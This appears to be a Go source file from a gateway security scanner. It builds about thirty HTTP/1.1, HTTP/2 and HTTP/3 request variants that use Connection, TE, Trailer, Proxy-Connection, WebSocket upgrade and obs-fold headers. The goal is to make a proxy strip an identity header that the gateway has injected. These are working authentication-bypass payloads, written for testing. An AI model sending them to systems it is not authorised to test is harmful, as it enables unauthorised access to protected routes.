package attack

import "strings"

// removalAttacks: `Connection: close, X-WX-OPENID` has a proxy remove, as
// hop-by-hop, what the gateway has just set. The upstream then sees an
// authenticated route and nobody on it.
func removalAttacks(t *Target) []Attack {
	lower := strings.ToLower(t.Identity)
	var out []Attack
	add := func(id string, header ...Field) {
		out = append(out, Attack{
			ID: "removal/" + id, Mechanism: removalMechanism, Protocols: h1Only,
			Needs: []Control{admitted}, Request: get(t.Guarded+"removal", header...), Judge: vanished,
		})
	}
	connection := func(id string, values ...string) {
		var header []Field
		for _, v := range values {
			header = append(header, Field{"Connection", v})
		}
		add(id, header...)
	}
	for _, s := range spellings(t.Identity) {
		switch s.id {
		case "lower", "upper", "mixed":
			connection("connection-"+s.id, s.name)
			connection("connection-close-"+s.id, "close, "+s.name)
		}
	}
	connection("keep-alive-first", "keep-alive,"+lower)
	connection("in-the-middle", "keep-alive, "+lower+", close")
	connection("second-header", "keep-alive", lower)
	connection("third-header", "keep-alive", "close", t.Identity)
	connection("tabs", "\tkeep-alive\t,\t"+lower+"\t")
	connection("empty-elements", ",,"+lower+",,")
	connection("quoted", `"`+t.Identity+`"`)
	connection("underscores", strings.ReplaceAll(t.Identity, "-", "_"))
	connection("forwarded-for", "close, X-Forwarded-For, X-Forwarded-Proto, X-Forwarded-Host")
	connection("cookie", "close, Cookie, "+lower)
	connection("with-upgrade", "Upgrade, "+lower)
	add("lower-case-connection", Field{"connection", lower})
	add("keep-alive-header", Field{"Connection", "keep-alive"}, Field{"Keep-Alive", lower})
	add("proxy-connection", Field{"Proxy-Connection", "keep-alive, " + lower})
	add("te", Field{"Connection", "te"}, Field{"TE", lower})
	add("trailer", Field{"Trailer", t.Identity})
	add("websocket",
		Field{"Connection", "Upgrade, " + t.Identity}, Field{"Upgrade", "websocket"},
		Field{"Sec-WebSocket-Version", "13"}, Field{"Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="})
	for _, name := range []string{"APPID", "SOURCE", "SESSION", "ASSERTION"} {
		if t.Reserved != "" {
			connection("reserved-"+strings.ToLower(name), "close, "+t.Reserved+name)
		}
	}
	fold := get("")
	fold.Raw = "GET " + t.Guarded + "removal HTTP/1.1\r\nHost: {host}\r\nX-Attack: {marker}\r\nAuthorization: Bearer {token}\r\nConnection: keep-alive,\r\n " + lower + "\r\n\r\n"
	return append(out, Attack{
		ID: "removal/obs-fold", Mechanism: removalMechanism, Protocols: h1Only, Needs: []Control{admitted}, Request: fold, Judge: vanished,
	})
}

// removalFrameAttacks: HTTP/2 and HTTP/3 have no Connection header; a gateway
// that takes one must not obey it.
func removalFrameAttacks(t *Target) []Attack {
	lower := strings.ToLower(t.Identity)
	var out []Attack
	for _, f := range []Field{
		{"connection", lower}, {"connection", "close, " + lower}, {"proxy-connection", lower}, {"keep-alive", lower},
		{"te", lower}, {"te", "trailers, " + lower}, {"trailer", lower},
	} {
		out = append(out, Attack{
			ID:        "removal/frame-" + f.Name + "-" + strings.NewReplacer(" ", "", ",", "-").Replace(f.Value),
			Mechanism: removalMechanism, Protocols: multiplexed, Needs: []Control{admitted},
			Request: get(t.Guarded+"removal", f), Judge: vanished,
		})
	}
	return out
}
